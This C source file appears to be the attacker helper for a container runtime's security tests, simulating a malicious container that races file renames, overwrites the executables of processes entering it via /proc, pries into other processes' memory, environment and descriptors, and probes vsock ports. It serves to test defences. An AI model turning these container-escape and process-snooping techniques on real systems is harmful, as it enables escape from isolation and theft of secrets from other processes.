/* SPDX-License-Identifier: GPL-2.0-or-later */
/*
 * The hostile side of the security tests: what a malicious container, or one that shares a volume
 * with another, does while hull works. `attack VERB [ARGUMENT]...`; the table at the end lists the
 * verbs. Each but `agent` runs until it is killed. All say on standard output what they reached, so
 * that a test sees it succeed on a target that is open to it and fail on hull.
 */
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <limits.h>
#include <linux/vm_sockets.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

static int fail(const char *what)
{
	fprintf(stderr, "%s: %s\n", what, strerror(errno));
	return 1;
}

/* exchange A B: what is called A and what is called B change places all the time. */
static int exchange(char **args)
{
	puts("exchanging");
	fflush(stdout);
	for (;;)
		if (renameat2(AT_FDCWD, args[0], AT_FDCWD, args[1], RENAME_EXCHANGE) < 0)
			return fail("renameat2");
}

/* Calls act for each process but this one and the first, which has nothing to hide. */
static void each_process(void (*act)(int proc, const char *pid, void *arg), void *arg)
{
	DIR *dir = opendir("/proc");
	struct dirent *e;

	while (dir && (e = readdir(dir))) {
		pid_t pid = (pid_t)strtoul(e->d_name, NULL, 10);

		if (pid > 1 && pid != getpid())
			act(dirfd(dir), e->d_name, arg);
	}
	if (dir)
		closedir(dir);
}

static void read_comm(int proc, const char *pid, char comm[static 32])
{
	char path[64];
	ssize_t n = -1;
	int fd;

	snprintf(path, sizeof(path), "%s/comm", pid);
	fd = openat(proc, path, O_RDONLY | O_CLOEXEC);
	if (fd >= 0) {
		n = read(fd, comm, 31);
		close(fd);
	}
	comm[n > 0 ? n - 1 : 0] = '\0';
}

/* ---- overwrite-exe ---- */

static void write_exe(int proc, const char *pid, const char *payload)
{
	char path[64];
	int got, fd;

	snprintf(path, sizeof(path), "%s/exe", pid);
	got = openat(proc, path, O_RDONLY | O_CLOEXEC);
	if (got < 0)
		return;
	puts("got the executable");
	snprintf(path, sizeof(path), "/proc/self/fd/%d", got);
	/* ETXTBSY as long as the program runs; then it can be written, if at all. */
	for (int i = 0; i < 2000; i++) {
		fd = open(path, O_WRONLY | O_TRUNC | O_CLOEXEC);
		if (fd >= 0 || errno != ETXTBSY)
			break;
		usleep(1000);
	}
	if (fd >= 0 && write(fd, payload, strlen(payload)) > 0)
		puts("overwritten");
	else
		printf("not overwritten: %s\n", strerrorname_np(errno));
	fflush(stdout);
	if (fd >= 0)
		close(fd);
	close(got);
}

static void overwrite_one(int proc, const char *pid, void *arg)
{
	write_exe(proc, pid, arg);
}

/* overwrite-exe TEXT: opens the executable of each process that comes by, writes when it ended. */
static int overwrite_exe(char **args)
{
	puts("waiting");
	fflush(stdout);
	while (!ferror(stdout))
		each_process(overwrite_one, args[0]);
	return 1;
}

/* ---- pry ---- */

struct pry {
	const char *harmless; /* name of the program that may be looked into */
	bool saw;
};

static void report(int proc, const char *pid, const struct pry *p, const char *what)
{
	char comm[32];

	/* It may have become the harmless program meanwhile, or be gone: that proves nothing. */
	read_comm(proc, pid, comm);
	if (!comm[0] || !strcmp(comm, p->harmless))
		return;
	printf("reached %s of %s\n", what, comm);
	fflush(stdout);
}

static void pry_fds(int proc, const char *pid, const struct pry *p)
{
	char path[64];
	int fd;

	for (int i = 3; i < 24; i++) {
		snprintf(path, sizeof(path), "%s/fd/%d", pid, i);
		fd = openat(proc, path, O_PATH | O_CLOEXEC);
		if (fd < 0)
			continue;
		report(proc, pid, p, "a descriptor");
		close(fd);
	}
}

static void pry_one(int proc, const char *pid, void *arg)
{
	static const struct {
		const char *file;
		int flags;
	} files[] = {
		{"exe", O_RDONLY}, {"mem", O_RDWR},       {"cwd", O_PATH},
		{"root", O_PATH},  {"environ", O_RDONLY},
	};
	struct pry *p = arg;
	char path[64], comm[32];

	read_comm(proc, pid, comm);
	if (!comm[0] || !strcmp(comm, p->harmless))
		return;
	if (!p->saw)
		printf("saw %s\n", comm);
	fflush(stdout);
	p->saw = true;
	for (size_t i = 0; i < sizeof(files) / sizeof(*files); i++) {
		int fd;

		snprintf(path, sizeof(path), "%s/%s", pid, files[i].file);
		fd = openat(proc, path, files[i].flags | O_CLOEXEC);
		if (fd < 0)
			continue;
		report(proc, pid, p, files[i].file);
		close(fd);
	}
	pry_fds(proc, pid, p);
}

/* pry NAME: looks into each process that comes by and is not yet called NAME. */
static int pry(char **args)
{
	struct pry p = {.harmless = args[0]};

	puts("waiting");
	fflush(stdout);
	while (!ferror(stdout))
		each_process(pry_one, &p);
	return 1;
}

/* ---- agent ---- */

static void try_vsock(const char *what, int (*call)(int, const struct sockaddr *, socklen_t),
		      unsigned int cid, unsigned int port)
{
	const struct sockaddr_vm to = {.svm_family = AF_VSOCK, .svm_cid = cid, .svm_port = port};
	int fd = socket(AF_VSOCK, SOCK_STREAM | SOCK_CLOEXEC, 0);

	if (fd >= 0 && call(fd, (const struct sockaddr *)&to, sizeof(to)) == 0)
		printf("%s %u:%u: done\n", what, cid, port);
	else
		printf("%s %u:%u: %s\n", what, cid, port, strerrorname_np(errno));
	if (fd >= 0)
		close(fd);
}

/* agent CID: where the agent of this machine, which has that address, and its host listen. */
static int agent(char **args)
{
	const unsigned int own = (unsigned int)strtoul(args[0], NULL, 10);

	try_vsock("connect", connect, VMADDR_CID_HOST, 1);
	try_vsock("connect", connect, VMADDR_CID_HOST, 2);
	try_vsock("connect", connect, VMADDR_CID_LOCAL, 2);
	try_vsock("connect", connect, own, 2);
	try_vsock("bind", bind, VMADDR_CID_ANY, 2);
	try_vsock("bind", bind, own, 2);
	return 0;
}

static const struct verb {
	const char *name;
	int n_args;
	int (*run)(char **args);
} verbs[] = {
	{"agent", 1, agent},
	{"exchange", 2, exchange},
	{"overwrite-exe", 1, overwrite_exe},
	{"pry", 1, pry},
};

int main(int argc, char **argv)
{
	for (size_t i = 0; argc > 1 && i < sizeof(verbs) / sizeof(*verbs); i++)
		if (!strcmp(argv[1], verbs[i].name) && argc - 2 >= verbs[i].n_args)
			return verbs[i].run(argv + 2);
	fprintf(stderr, "attack: no such verb, or too few arguments\n");
	return 2;
}
